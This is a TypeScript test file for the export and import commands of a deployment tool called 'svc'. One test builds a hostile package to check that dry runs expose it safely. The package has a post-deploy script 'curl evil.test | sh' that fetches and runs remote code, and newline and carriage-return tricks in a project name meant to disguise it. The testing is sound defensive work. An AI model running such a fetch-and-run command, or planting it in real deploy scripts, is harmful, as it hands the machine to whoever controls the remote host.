import t from 'tap'
import { execFile } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { startServe } from '../../support/serve-process.js'
import { serveShop } from '../../support/shop.js'
import { svc } from '../../support/svc.js'
import { zipOf } from '../../support/zip.js'

// What it writes, from a server and without one, is tested with what reads it: test/carry/transfer/import.test.ts.

t.test('export creates no data directory if there is none', async t => {
  const cwd = t.testdir({})
  const { code, stderr } = await svc(['export'], { cwd })
  t.equal(code, 1)
  t.match(stderr, /error: There is nothing to export: no database found in "/)
  t.notOk(existsSync(join(cwd, '.svc')))
})

t.test('other programs can read a package', async t => {
  const { cwd, server, shop: project } = await serveShop(t)
  // Large enough to be written in blocks.
  await (await server.upload(project, { 'large.bin': randomBytes(7 * 1024 * 1024).toString('base64') })).finished
  await svc(['export', '--out', 'package.zip'], { cwd, env: { SVC_HOME: server.home } })
  const run = promisify(execFile)
  const listed = await run('unzip', ['-t', join(cwd, 'package.zip')]).catch((error: NodeJS.ErrnoException) => error)
  if (listed instanceof Error && listed.code === 'ENOENT') {
    t.comment('skipped: there is no unzip here')
    return
  }
  t.match(listed, { stdout: /svc-export\/artifacts\/proj_\w+\.zip/ })
  t.match(listed, { stdout: /No errors detected/ })
})

const json = (path: string): any => JSON.parse(readFileSync(path, 'utf8'))

t.test('export and import', async t => {
  const cwd = t.testdir({})
  const server = await startServe(t, cwd, ['--base', '/deploy'])
  const deployPath = join(cwd, 'www')
  const project = await server.createProject({ name: 'shop', deployPath })
  await (await server.upload(project, { 'index.html': 'one' })).finished
  const source = { SVC_HOME: server.home }
  const package1 = join(cwd, 'one.zip')

  await t.test('export uses a running server with any prefix and needs no token', async t => {
    const { code, stdout, stderr } = await svc(['export', '--out', 'one.zip'], { cwd, env: source })
    t.equal(code, 0, stderr)
    t.equal(stdout, `${package1}\n`)
    t.match(stderr, /^Exporting…\nExported 1 project, 1 deployment, 1 artifact: .* in /)
    t.equal(statSync(package1).mode & 0o777, 0o600, 'it holds tokens')
  })

  await t.test('without --out, the file name contains the time; --json describes the contents', async t => {
    const { code, stdout } = await svc(['export', '--json', '--no-include-logs', '--projects', project.id], {
      cwd,
      env: source
    })
    t.equal(code, 0)
    const manifest = JSON.parse(stdout)
    t.match(manifest, {
      schemaVersion: 1,
      included: ['settings', 'projects', 'artifacts'],
      projectIds: [project.id],
      deploymentCount: 0
    })
    t.match(manifest.path, /svc-export-\d{4}-\d\d-\d\dT\d\d-\d\d-\d\d\.zip$/)
    rmSync(manifest.path)
  })

  await t.test('export of an unknown project fails and leaves no file', async t => {
    const { code, stderr } = await svc(['export', '--projects', 'proj_x', '--out', 'x.zip'], { cwd, env: source })
    t.equal(code, 1)
    t.match(stderr, /error: Project not found/)
    t.notOk(readdirSync(cwd).some(name => name.startsWith('x.zip')))
  })

  await t.test('import without a server opens the data directory itself', async t => {
    rmSync(deployPath, { recursive: true })
    const env = { SVC_HOME: join(cwd, 'other') }
    const dry = await svc(['import', 'one.zip', '--dry-run'], { cwd, env })
    t.equal(dry.code, 0, dry.stderr)
    t.match(dry.stdout, /WOULD BE +CREATED +REPLACED +SKIPPED\n(.*\n)+projects +1 +0 +0\n/)
    t.match(dry.stdout, `\nProject shop (${project.id})\n  deploys to ${deployPath} and extracts its files there\n`)
    t.notOk(existsSync(join(env.SVC_HOME, 'config.json')))

    const { code, stdout, stderr } = await svc(['import', 'one.zip', '--json'], { cwd, env })
    t.equal(code, 0, stderr)
    t.match(JSON.parse(stdout), { projects: { created: [project.id] }, artifacts: { created: [project.id] } })
    t.equal(readFileSync(join(deployPath, 'index.html'), 'utf8'), 'one')
    t.match(json(join(env.SVC_HOME, 'config.json')), {
      serverUrl: 'http://127.0.0.1:5431',
      projectToken: { [project.id]: project.token },
      projectTokenOrigin: { [project.id]: 'http://127.0.0.1:5431' }
    })
    t.notOk(readdirSync(env.SVC_HOME).includes('svc.sock'), 'it let go of the directory')

    const exported = await svc(['export', '--out', 'two.zip'], { cwd, env })
    t.equal(exported.code, 0, exported.stderr)
    const other = await startServe(t, cwd, [], env)
    t.match(await other.api('GET', '/api/projects'), [{ id: project.id, token: project.token, status: 'success' }])
  })

  await t.test('import into a running server keeps its newer writes', async t => {
    const { code, stderr } = await svc(['import', 'two.zip'], { cwd, env: source })
    t.equal(code, 0, stderr)
    await server.changeProject(project.id, { name: 'renamed' })
    await svc(['import', 'two.zip'], { cwd, env: source })
    t.match(await server.api('GET', `/api/projects/${project.id}`), { name: 'renamed' })
  })

  await t.test('overwrite needs --yes, and replaces tokens in the global configuration', async t => {
    const refused = await svc(['import', 'two.zip', '--strategy', 'overwrite'], { cwd, env: source })
    t.equal(refused.code, 1)
    t.match(refused.stderr, /[Uu]se --yes/)
    t.match(
      await svc(['import', 'two.zip', '--strategy', 'overwrite', '--dry-run'], { cwd, env: source }),
      { code: 0 },
      'nothing to confirm'
    )
    t.match(await server.api('GET', `/api/projects/${project.id}`), { name: 'renamed' })

    const path = join(server.home, 'config.json')
    writeFileSync(
      path,
      JSON.stringify({
        ...json(path),
        serverUrl: 'http://elsewhere',
        projectToken: { [project.id]: 'stale', kept: 'k' }
      })
    )
    const skipped = await svc(['import', 'two.zip'], { cwd, env: source })
    t.equal(skipped.code, 0)
    t.strictSame(json(path).projectToken, { [project.id]: 'stale', kept: 'k' })
    const { code, stderr } = await svc(
      ['import', 'two.zip', '--strategy', 'overwrite', '--yes', '--no-restore-artifacts'],
      { cwd, env: source }
    )
    t.equal(code, 0, stderr)
    t.match(await server.api('GET', `/api/projects/${project.id}`), { name: 'shop' })
    t.strictSame(json(path).projectToken, { [project.id]: project.token, kept: 'k' })
    t.strictSame(
      json(path).projectTokenOrigin,
      { [project.id]: 'http://elsewhere' },
      'the kept token keeps having none'
    )
    t.equal(json(path).serverUrl, 'http://elsewhere')
  })

  await t.test('reports an archive that cannot be restored, and imports its records', async t => {
    const env = { SVC_HOME: join(cwd, 'third') }
    rmSync(deployPath, { recursive: true })
    mkdirSync(join(deployPath, 'index.html'), { recursive: true })
    writeFileSync(join(deployPath, 'index.html', 'of-others'), '')
    const { code, stdout, stderr } = await svc(['import', 'one.zip'], { cwd, env })
    t.equal(code, 1)
    t.match(stdout, /projects +1/)
    t.match(stderr, /error: The artifact of proj_\w+ was not restored: .*index\.html/)
  })

  await t.test(
    'a dry run shows scripts and settings; what decides who has access comes only when asked for',
    async t => {
      const env = { SVC_HOME: join(cwd, 'fifth') }
      const bad = {
        id: 'proj_bad',
        name: 'Bad\n  deploys to /srv/harmless',
        deployPath: join(cwd, 'bad'),
        token: 'token-of-bad',
        postDeployScript: 'true\ncurl evil.test | sh\r# harmless',
        postDeployAsync: true,
        allowClientScripts: true
      }
      writeFileSync(
        join(cwd, 'bad.zip'),
        await zipOf({
          'svc-export/manifest.json': '{"schemaVersion":1}',
          'svc-export/projects.json': JSON.stringify([bad]),
          'svc-export/settings.json': JSON.stringify({
            trusted_proxies: '0.0.0.0/0',
            webhook_secret: 'of-theirs',
            script_timeout: '5'
          })
        })
      )
      const dry = await svc(['import', 'bad.zip', '--dry-run', '--with-access-settings'], { cwd, env })
      t.equal(dry.code, 0, dry.stderr)
      t.match(
        dry.stdout,
        '\nSettings:\n  webhook_secret = (a secret)\n  script_timeout = 5\n  trusted_proxies = 0.0.0.0/0\n'
      )
      t.match(
        dry.stdout,
        `
Project Bad\\n  deploys to /srv/harmless (proj_bad)
  deploys to ${bad.deployPath}
  client scripts are on
  post-deploy script, in the background:
    | true
    | curl evil.test | sh\\r# harmless
`
      )
      t.notMatch(dry.stdout + dry.stderr, /of-theirs|token-of-bad/)
      const { stderr, code } = await svc(['import', 'bad.zip'], { cwd, env })
      t.equal(code, 0, stderr)
      t.match(stderr, /"trusted_proxies", "webhook_secret" were left out.*--with-access-settings/)
      t.notMatch(stderr, 'Project Bad')
    }
  )

  await t.test('refuses a newer package and a file that is not a package, and writes nothing', async t => {
    const env = { SVC_HOME: join(cwd, 'fourth') }
    writeFileSync(join(cwd, 'newer.zip'), await zipOf({ 'svc-export/manifest.json': '{"schemaVersion":2}' }))
    writeFileSync(join(cwd, 'none.zip'), 'text')
    t.match(await svc(['import', 'newer.zip'], { cwd, env }), {
      code: 1,
      stderr: /its schemaVersion is 2, but this svc supports at most 1\. Update svc first/
    })
    t.match(await svc(['import', 'none.zip'], { cwd, env }), { code: 1, stderr: /it is not a zip file/ })
    t.match(await svc(['import', 'missing.zip'], { cwd, env }), { code: 2, stderr: /file not found/ })
    t.match(await svc(['import', 'one.zip', '--strategy', 'replace'], { cwd, env }), { code: 2 })
    t.notOk(existsSync(join(env.SVC_HOME, 'config.json')))
  })
})

t.test('archive delete removes the archive of one deployment', async t => {
  const { cwd, server, shop: project } = await serveShop(t)
  const ids: string[] = []
  for (const text of ['one', 'two', 'three']) {
    const { deployId, finished } = await server.upload(project, { 'index.html': text })
    await finished
    ids.push(deployId)
  }
  const [first = '', second = '', third = ''] = ids
  const env = { SVC_SERVER_URL: server.url, SVC_TOKEN: server.adminToken }
  const run = (...words: string[]) => svc(['archive', 'delete', ...words], { cwd, env })

  t.match(await run(first), { code: 1, stderr: /use --yes/ })
  t.match(await run(third, '--yes', '--force'), { code: 1, stderr: /its files are in the target/ })
  t.match(await run(second, '--yes'), { code: 1, stderr: /an exact undo of deployment/ })
  t.match(await run(second, '--yes', '--force'), { code: 0, stdout: `Deleted the archive of ${second}` })
  const { code, stdout } = await run(first, '--yes', '--force', '--json')
  t.equal(code, 0)
  t.match(JSON.parse(stdout), { freedBytes: Number, deployment: { id: first, artifactPath: null, hasArtifact: false } })
  t.match(await svc(['rollback', '--to', first, '--yes'], { cwd, env: { ...env, SVC_PROJECT_ID: project.id } }), {
    code: 1,
    stderr: /its archive has been removed/
  })
})
